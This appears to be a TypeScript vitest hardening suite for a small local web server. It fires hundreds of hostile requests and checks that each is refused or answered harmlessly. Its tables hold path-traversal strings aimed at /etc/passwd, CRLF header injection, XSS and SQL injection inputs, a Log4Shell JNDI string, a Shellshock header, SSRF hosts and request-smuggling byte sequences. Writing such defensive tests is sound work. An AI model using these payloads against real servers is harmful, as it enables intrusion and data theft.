import { afterAll, beforeAll, expect, test } from 'vitest';
import { exchange, parseResponses, type RawResponse } from '#http/testing/exchange.ts';
import { createSmallSite, type Served, serve } from '#http/testing/small-site.ts';

const OVERSIZED = 'a'.repeat(20_000);

/** Cases of one status: the words of a text, or what `|` divides in it. */
function words(status: number, text: string): Array<readonly [string, number]> {
  return text
    .trim()
    .split(/\s+/)
    .map((word) => [word, status] as const);
}

function lines(status: number, text: string): Array<readonly [string, number]> {
  return text.split('|').map((line) => [line.trim(), status] as const);
}

/** A request target and the status of its response; node:http itself refuses what no target may hold. */
const targets: ReadonlyArray<readonly [target: string, status: number]> = [
  ...words(
    200,
    `
  /blog?q=%0d%0aX-Injected:%201 /blog?page=%0d%0aX-Injected:%201 /blog?%0d%0aX-Injected:%201 /blog?q=%
  /blog?q=%zz&page=% /blog?q=%ff%fe /blog?q=%00 /blog?%ff=%ff /blog?page=1'%20OR%20'1'='1 /blog?page=-1
  /blog?page=1e309 /blog?page=__proto__ /blog?__proto__[x]=1&constructor.prototype.x=1 /blog?page[]=1&page[0]=1
  /blog?page=1&page=2&page=3 /blog/search?q=<script>alert(1)</script>
  /blog/search?q=%3Cscript%3Ealert(1)%3C/script%3E /blog/search?q=$%7Bjndi:ldap://elsewhere.example/a%7D
  /blog/search?q=((((((((((a+)+)+)+)+)+)+)+)+)+ /blog/search?q=%7B%7B7*7%7D%7D /blog?_routes=root /blog?index
  /blog/a-post?/../../x http://localhost/blog http://localhost:3000/blog https://localhost/blog
  HTTP://localhost/blog http://[::1]/blog`,
  ),
  ...words(
    308,
    `
  /....//....//etc/passwd /assets/ /assets/app-1a2b3c.js/ //elsewhere.example //elsewhere.example/
  ///elsewhere.example/ ////elsewhere.example /.elsewhere.example/ /@elsewhere.example/ /http://elsewhere.example/
  /https:elsewhere.example/ /javascript:alert(1)/ /blog/?next=//elsewhere.example
  /blog/?q=%0d%0aLocation:%20//elsewhere.example /blog/%E5%98%8D%E5%98%8AX-Injected:1/
  /blog/%c4%8d%c4%8aX-Injected:1/ /blog/%25%30%64%25%30%61X-Injected:1/ /blog/%e2%80%a8X-Injected:1/`,
  ),
  ...words(
    400,
    String.raw`
  /../../../etc/passwd /blog/../../etc/passwd /assets/../../../etc/passwd /assets/./app-1a2b3c.js /blog/.. /blog/.
  /.. /%2e%2e/%2e%2e/etc/passwd /%2E%2E/%2E%2E/etc/passwd /.%2e/.%2e/etc/passwd /%2e./%2e./etc/passwd
  /..%2f..%2f..%2fetc%2fpasswd /..%2F..%2F..%2Fetc%2Fpasswd /%2e%2e%2f%2e%2e%2fetc%2fpasswd
  /assets/%2e%2e%2f%2e%2e%2fpackage.json /%2fetc%2fpasswd /..\..\..\etc\passwd /..%5c..%5c..%5cetc%5cpasswd
  /..%5C..%5C..%5Cetc%5Cpasswd /assets\..\..\package.json /%5c%5celsewhere.example%5cshare
  /..%c0%af..%c0%afetc/passwd /..%e0%80%afetc/passwd /..%f0%80%80%afetc/passwd /..%c1%9c..%c1%9cetc/passwd
  /%c0%ae%c0%ae/etc/passwd /%e0%80%ae%e0%80%ae/etc/passwd /..%u2215etc/passwd /%uff0e%uff0e/etc/passwd /blog;/../etc
  /C:%5cWindows%5cwin.ini /assets/app-1a2b3c.js%00.png //elsewhere.example/.. //elsewhere.example/%2e%2e/
  /\elsewhere.example/ /\/elsewhere.example/ /%5celsewhere.example/ /%2felsewhere.example/ /%09/elsewhere.example/
  /blog/%0d%0aX-Injected:%201 /blog/%0aX-Injected:%201 /blog/%0dX-Injected:%201 /%0d%0aX-Injected:%201/
  /blog/%c2%85X-Injected:1/ /% /%% /%2 /%zz /%-1 /%u0000 /blog% /blog/%f /%80 /%ff /%fe%ff /%c0%80 /%e6%97
  /%e6%97/%a5 /%ed%a0%80 /%ed%a0%bd%ed%b8%80 /%f4%90%80%80 /%f8%88%80%80%80 /%ef%bf%be /%ef%bf%bf /blog%00 /%00
  /blog/a-post%00.html /blog%01 /blog%08 /blog%1b[31m /blog%7f /blog/%3Cscript%3Ealert(1)%3C%2Fscript%3E /blog#/../x
  * blog ?q=a #blog ftp://localhost/blog file:///etc/passwd gopher://localhost:11211/_stats
  http://localhost@elsewhere.example/blog localhost:3000 elsewhere.example:443 javascript:alert(1)`,
  ),
  ...words(
    404,
    `
  /%252e%252e/%252e%252e/etc/passwd /%252e%252e%252fetc%252fpasswd /%25252e%25252e/etc/passwd /..%255c..%255cetc
  /%ef%bc%8e%ef%bc%8e/etc/passwd /..%ef%bc%8fetc/passwd /..%e2%88%95etc/passwd /..;/..;/etc/passwd
  /.../.../etc/passwd /etc/passwd /proc/self/environ /C:/Windows/win.ini /~root /.env /.git/config
  /.vite/manifest.json /package.json /node_modules/react/package.json /server/index.js /assets
  /assets/app-1a2b3c.js.map /assets/app-1a2b3c.js/x /ASSETS/APP-1A2B3C.JS /%ef%bb%bfblog /%e2%80%ae/golb
  /blog%e2%80%8b /blog.data?_routes=%00 /__manifest?p=/blog&version=1 /__proto__ /constructor /toString
  /hasOwnProperty /blog/__proto__ /blog/<script>alert(1)</script> /blog#x`,
  ),
  ...words(
    421,
    `
  http://elsewhere.example/blog http://elsewhere.example`,
  ),
  ['/% 2e', 400],
  ['/blog\xff', 400],
  ['/blog/\xe6\x97\xa5', 400],
  [`/blog/\${7*7}`, 404],
  [`/${'a'.repeat(2048)}`, 414],
  [`/${'a'.repeat(10_000)}`, 414],
  [`/${'%61'.repeat(3000)}`, 414],
  [`/${'../'.repeat(2000)}`, 414],
  [`/${'/'.repeat(2000)}`, 308],
  [`/${'a/'.repeat(1000)}`, 308],
  [`/blog?q=${'a'.repeat(1900)}`, 200],
  [`/blog?q=${'a'.repeat(10_000)}`, 414],
  [`/blog?${'a&'.repeat(1000)}`, 200],
  [`/blog?${'page=1&'.repeat(290)}`, 200],
  [`http://localhost/${'a'.repeat(2048)}`, 414],
  [`http://elsewhere.example/${'a'.repeat(2048)}`, 421],
  [`/${OVERSIZED}`, 431],
  [`/blog?q=${OVERSIZED}`, 431],
];

/** Header lines added to a request for `/blog`: none that proxies and frameworks read may change the page. */
const headerLines: ReadonlyArray<readonly [lines: string, status: number]> = [
  ...lines(
    200,
    `
  X-Forwarded-Host: elsewhere.example | X-Forwarded-Proto: javascript | X-Forwarded-Scheme: http |
  X-Forwarded-Port: 1337 | X-Forwarded-Port: abc/../x | X-Forwarded-Prefix: /elsewhere |
  X-Forwarded-Path: /elsewhere | X-Forwarded-Server: elsewhere.example | X-Forwarded-For: 127.0.0.1 |
  X-Forwarded-For: 127.0.0.1' OR 1=1 | X-Forwarded: for=127.0.0.1 |
  Forwarded: host=elsewhere.example;proto=https;for=127.0.0.1 | X-Host: elsewhere.example |
  X-HTTP-Host-Override: elsewhere.example | X-Original-Host: elsewhere.example | X-Original-URL: /nowhere |
  X-Rewrite-URL: /nowhere | X-Original-URI: /nowhere | X-Request-URI: /nowhere | X-Override-URL: /nowhere |
  X-Proxy-URL: http://elsewhere.example | X-Real-IP: 127.0.0.1 | True-Client-IP: 127.0.0.1 |
  CF-Connecting-IP: 127.0.0.1 | X-React-Router-Prerender-Data: W10= |
  X-React-Router-Prerender-Data: %5B%7B%22a%22%3A1%7D%5D | X-React-Router-SPA-Mode: yes |
  X-React-Router-Revalidate: routes/blog | X-React-Router-Request: yes | X-Remix-Revalidate: root |
  X-Middleware-Subrequest: middleware | X-Invoke-Path: /nowhere | X-Nextjs-Data: 1 | X-HTTP-Method-Override: DELETE |
  X-HTTP-Method: PUT | X-Method-Override: POST | Accept: text/x-component | Accept: application/json |
  Accept-Language: ../../etc | Accept-Charset: utf-7 | Origin: https://elsewhere.example | Origin: null |
  Referer: javascript:alert(1) | User-Agent: () { :;}; echo X-Injected: 1 |
  Cookie: mantle-ui-theme="><script>alert(1)</script> | Cookie: __proto__=1; constructor=2 |
  Authorization: Basic Og== | Cache-Control: no-store, no-transform, only-if-cached | Pragma: x-get-cache-key |
  Range: bytes=0- | Range: bytes=0-0,-1 | If-None-Match: " | If-None-Match: W/ | If-Match: "nothing" |
  If-Modified-Since: yesterday | If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT |
  If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT | Accept-Encoding: ../../etc/passwd |
  Accept-Encoding: gzip;q=nan;q=1e999, br;q=-0 | Accept-Encoding: __proto__ | TE: trailers, gzip;q=0 |
  Connection: close, Host | Connection: X-Forwarded-For, Cookie | Keep-Alive: timeout=999999999, max=-1 |
  Max-Forwards: 0 | Via: 1.1 elsewhere.example | X-A: | __proto__: x | constructor: x | hasOwnProperty: x`,
  ),
  ...lines(
    400,
    `
  X-A : a | X A: a | X-A | : a | X-(A): a | Host: elsewhere.example | host: localhost | Host : elsewhere.example`,
  ),
  ...lines(
    417,
    `
  Expect: 200-ok`,
  ),
  ['X-Forwarded-Host: elsewhere.example\r\nX-Forwarded-Proto: https', 200],
  ['Rsc: 1\r\nNext-Router-State-Tree: %5B%5D', 200],
  [`Accept: ${'*/*,'.repeat(2000)}*/*`, 200],
  [`User-Agent: \${jndi:ldap://elsewhere.example/a}`, 200],
  [`Cookie: ${'a=b; '.repeat(2000)}`, 200],
  [`Range: bytes=${'0-,'.repeat(1300)}0-`, 200],
  ['If-Range: "x"\r\nRange: bytes=5-1', 200],
  [`If-None-Match: ${'"a",'.repeat(2000)}"b"`, 200],
  [`If-None-Match: ${'"'.repeat(5001)}`, 200],
  [`Accept-Encoding: ${'gzip,'.repeat(2500)}`, 200],
  ['Accept-Encoding: \xff\xfe', 200],
  ['Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__', 200],
  ['Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAA\r\nSec-WebSocket-Version: 13', 200],
  ['X-A: \xe9\xff', 200],
  ['X-A:\ta\t', 200],
  ['X-A: a\0b', 400],
  ['X-A: a\rX-B: b', 400],
  [' X-A: a', 400],
  ['X-A: a\r\n b', 400],
  ['X-\xe9: a', 400],
  [`X-A: ${OVERSIZED}`, 431],
  [`Cookie: ${OVERSIZED}`, 431],
  [`${OVERSIZED}: a`, 431],
  [`If-None-Match: "${OVERSIZED}"`, 431],
  [Array.from({ length: 300 }, (_, index) => `X-${index}: ${index}`).join('\r\n'), 200],
  [Array.from({ length: 3000 }, () => 'a:').join('\r\n'), 431],
  [Array.from({ length: 5000 }, (_, index) => `X-${index}: ${index}`).join('\r\n'), 431],
];

const hosts: ReadonlyArray<readonly [host: string, status: number]> = [
  ...words(
    421,
    String.raw`
  elsewhere.example localhost.elsewhere.example localhost@elsewhere.example localhost:3000@elsewhere.example
  localhost#@elsewhere.example elsewhere.example#localhost localhost/elsewhere localhost\elsewhere.example
  localhost:99999999 localhost:-1 localhost:80:80 localhost. .localhost http://localhost 127.1 2130706433 0x7f000001
  0.0.0.0 169.254.169.254 [::] [::1 [::ffff:127.0.0.1] "localhost" localhost"><script>alert(1)</script> __proto__`,
  ),
  ['localhost, elsewhere.example', 421],
  ['localhost elsewhere.example', 421],
  ['', 421],
  ['l\xf6calhost', 421],
  ['a'.repeat(10_000), 421],
];

const methods: ReadonlyArray<readonly [method: string, status: number]> = [
  ...words(
    400,
    `
  get Get head GETS GE TRACK DEBUG PRI FOO __PROTO__ ../GET`,
  ),
  ...words(
    405,
    `
  POST PUT PATCH DELETE OPTIONS TRACE QUERY PROPFIND PURGE SOURCE LINK MKCOL M-SEARCH`,
  ),
  ['GET\t', 400],
  [' GET', 400],
  ['G\0T', 400],
  ['\xff', 400],
  ['A'.repeat(20_000), 400],
];

const PIPELINED = 'GET /nowhere HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n';

/** Whole requests, byte for byte, and the statuses of all that comes back. */
const shapes: ReadonlyArray<readonly [label: string, bytes: string, statuses: readonly number[]]> = [
  ['nothing', '', []],
  ['only line breaks', '\r\n\r\n\r\n\r\n', []],
  ['a byte', '\0', [400]],
  ['a TLS greeting', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', [400]],
  ['an SSH greeting', 'SSH-2.0-OpenSSH_9.2\r\n', [400]],
  ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', [400]],
  ['a mail command', 'HELO elsewhere.example\r\n', [400]],
  ['a PROXY line', `PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET /blog HTTP/1.1\r\nHost: localhost\r\n\r\n`, [400]],
  // node:http reads these as HTTP/1.1, and so they get the page that everybody gets.
  ['HTTP/0.9', 'GET /blog HTTP/0.9\r\nHost: localhost\r\n\r\n', [200]],
  ['HTTP/2.0', 'GET /blog HTTP/2.0\r\nHost: localhost\r\nConnection: close\r\n\r\n', [200]],
  ['another protocol', 'GET /blog RTSP/1.0\r\nHost: localhost\r\n\r\n', [200]],
  ['no version and so no host', 'GET /blog\r\n\r\n', [421]],
  ['HTTP/1.2', 'GET /blog HTTP/1.2\r\nHost: localhost\r\n\r\n', [400]],
  ['HTTP/9.9', 'GET /blog HTTP/9.9\r\nHost: localhost\r\n\r\n', [400]],
  ['a version of many digits', `GET /blog HTTP/1.${'1'.repeat(500)}\r\nHost: localhost\r\n\r\n`, [400]],
  ['two targets', 'GET /blog /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['no target', 'GET HTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['a tab for a space', 'GET\t/blog\tHTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['bare line feeds', 'GET /blog HTTP/1.1\nHost: localhost\nConnection: close\n\n', [400]],
  ['bare carriage returns', 'GET /blog HTTP/1.1\rHost: localhost\r\r', [400]],
  ['a null byte in the target', 'GET /blog\0 HTTP/1.1\r\nHost: localhost\r\n\r\n', [400]],
  ['a request that stops in its target', 'GET /bl', [400]],
  ['a request that stops in its headers', 'GET /blog HTTP/1.1\r\nHost: local', [400]],
  ['no host', 'GET /blog HTTP/1.1\r\n\r\n', [400]],
  ['CONNECT to another site', 'CONNECT elsewhere.example:443 HTTP/1.1\r\nHost: elsewhere.example:443\r\n\r\n', []],
  ['CONNECT to a page', 'CONNECT /blog HTTP/1.1\r\nHost: localhost\r\n\r\n', []],
  ['OPTIONS of the server', 'OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', [405]],
  // Request smuggling: two ways to read where a request ends (RFC 9112 section 6.3).
  [
    'a length and chunks',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'chunks and a length',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'two lengths',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nContent-Length: ${PIPELINED.length}\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'the same length twice',
    'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc',
    [400],
  ],
  ['a list of lengths', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3, 3\r\n\r\nabc', [400]],
  ['a negative length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n', [400]],
  ['a length with a sign', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: +3\r\n\r\nabc', [400]],
  ['a hexadecimal length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0x3\r\n\r\nabc', [400]],
  ['an empty length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length:\r\n\r\n', [400]],
  [
    'a length past 64 bits',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${'9'.repeat(30)}\r\n\r\n`,
    [400],
  ],
  [
    'two codings',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding that is not last',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding behind a space',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding on a folded line',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a coding behind a vertical tab',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a trailer that names a host',
    'GET /blog HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: elsewhere.example\r\n\r\n',
    [200],
  ],
  [
    'a body that is a request, behind GET',
    `GET /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${PIPELINED.length}\r\nConnection: close\r\n\r\n${PIPELINED}`,
    [200],
  ],
  [
    'a body that is a request, behind HEAD',
    `HEAD /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${PIPELINED.length}\r\nConnection: close\r\n\r\n${PIPELINED}`,
    [200],
  ],
  [
    'a body that is a request, behind POST',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${PIPELINED.length}\r\n\r\n${PIPELINED}${PIPELINED}`,
    [405],
  ],
  [
    'a request behind one that closes',
    `GET /blog HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n${PIPELINED}`,
    [400],
  ],
  [
    'a body of 1 MB',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n${'a'.repeat(1_000_000)}`,
    [405],
  ],
  [
    'a body that waits to be asked for',
    'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nExpect: 100-continue\r\nConnection: close\r\n\r\nabc',
    [100, 405],
  ],
  [
    'a form that names another method',
    'POST /blog?_method=GET HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\nConnection: close\r\n\r\n_method=GET',
    [405],
  ],
  [
    'a hundred requests at once',
    `${'GET /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(99)}${PIPELINED}`,
    Array(100).fill(404),
  ],
];

/** Requests that are answered before their bodies turn out to be broken; the refusal may come too late to be sent. */
const brokenBodies: ReadonlyArray<readonly [label: string, bytes: string]> = [
  ['a chunk that ends in its size', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nabc'],
  [
    'a chunk size past 64 bits',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n${'f'.repeat(20)}\r\n`,
  ],
  ['a negative chunk size', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nabc'],
  [
    'a chunk extension of 20 KB',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;${OVERSIZED}\r\na\r\n0\r\n\r\n`,
  ],
  [
    'a chunk longer than its size',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n`,
  ],
  [
    'a bare line feed behind a chunk size',
    'POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\na\r\n0\r\n\r\n',
  ],
  [
    'trailers of 20 KB',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-A: ${OVERSIZED}\r\n\r\n`,
  ],
  ['a body shorter than its length', 'POST /blog HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nabc'],
  [
    'a misspelt coding',
    `POST /blog HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
  ],
  [
    'chunks in HTTP/1.0',
    `POST /blog HTTP/1.0\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${PIPELINED}`,
  ],
];

function request(target: string, { method = 'GET', host = 'localhost', lines = '' } = {}): string {
  return `${method} ${target} HTTP/1.1\r\nHost: ${host}\r\n${lines === '' ? '' : `${lines}\r\n`}Connection: close\r\n\r\n`;
}

const ANSWERED_AND_REFUSED = /^405(?: 4\d\d)?$/;

const cases: ReadonlyArray<readonly [label: string, bytes: string, statuses: RegExp]> = [
  ...targets.map(([target, status]) => [`the target ${shown(target)}`, request(target), exactly(status)] as const),
  ...headerLines.map(
    ([lines, status]) => [`the header ${shown(lines)}`, request('/blog', { lines }), exactly(status)] as const,
  ),
  ...hosts.map(([host, status]) => [`the host ${shown(host)}`, request('/blog', { host }), exactly(status)] as const),
  ...methods.map(
    ([method, status]) => [`the method ${shown(method)}`, request('/blog', { method }), exactly(status)] as const,
  ),
  ...shapes.map(([label, bytes, statuses]) => [label, bytes, exactly(...statuses)] as const),
  ...brokenBodies.map(([label, bytes]) => [label, bytes, ANSWERED_AND_REFUSED] as const),
];

function exactly(...statuses: readonly number[]): RegExp {
  return new RegExp(`^${statuses.join(' ')}$`);
}

function shown(text: string): string {
  return JSON.stringify(text.length > 60 ? `${text.slice(0, 50)}… (${text.length} bytes)` : text);
}

// A stack, a path of this machine, an error's code or the software and its version.
const LEAKS = [
  /\bat .+:\d+/,
  /node:internal|file:\/\//,
  /\.[cm]?[jt]sx?:\d+/,
  /\b(?:E[A-Z]{4,}|HPE_\w+|ERR_\w+)\b/,
  /\b\w*Error\b/,
  /^(?:server|x-powered-by):/im,
  /node\.?js|react.router/i,
];

const served: Served[] = [];
let port = 0;
let honest: Buffer;

const HONEST = request('/blog');

beforeAll(async () => {
  const server = await serve(createSmallSite());
  served.push(server);
  port = server.port;
  honest = withoutDate(await exchange(port, HONEST));
});

afterAll(() => {
  for (const { close } of served) {
    close();
  }
});

function withoutDate(bytes: Buffer): Buffer {
  return Buffer.from(bytes.toString('latin1').replace(/\r\nDate: [^\r]*/, ''), 'latin1');
}

test.for(cases)('%s', async ([, bytes, statuses]) => {
  const received = await exchange(port, bytes);
  const responses = parseResponses(received, [bytes.slice(0, bytes.indexOf(' '))]);
  const found = responses.map(({ status }) => status).join(' ');
  expect(found).toMatch(statuses);
  expect(received.toString('latin1')).not.toContain(process.version);
  expect(received.toString('latin1')).not.toContain(process.cwd());
  for (const leak of LEAKS) {
    expect(received.toString('latin1')).not.toMatch(leak);
  }
  for (const response of responses) {
    expectHarmless(response);
  }
  expect(withoutDate(await exchange(port, HONEST))).toEqual(honest);
});

function expectHarmless({ status, headers }: RawResponse): void {
  expect(status === 503 || status < 500).toBe(true);
  expect(headers.has('x-injected')).toBe(false);
  expect(headers.has('set-cookie')).toBe(false);
  // One slash, and no scheme before it: a place on this site.
  expect(headers.get('location') ?? '/').toMatch(/^\/(?![/\\])/);
}

test('there are at least two hundred cases, each of them once', () => {
  expect(cases.length).toBeGreaterThanOrEqual(200);
  expect(new Set(cases.map(([, bytes]) => bytes)).size).toBe(cases.length);
});

test('nothing of all this was an error of the server', () => {
  expect(served.flatMap(({ errors }) => errors)).toEqual([]);
});
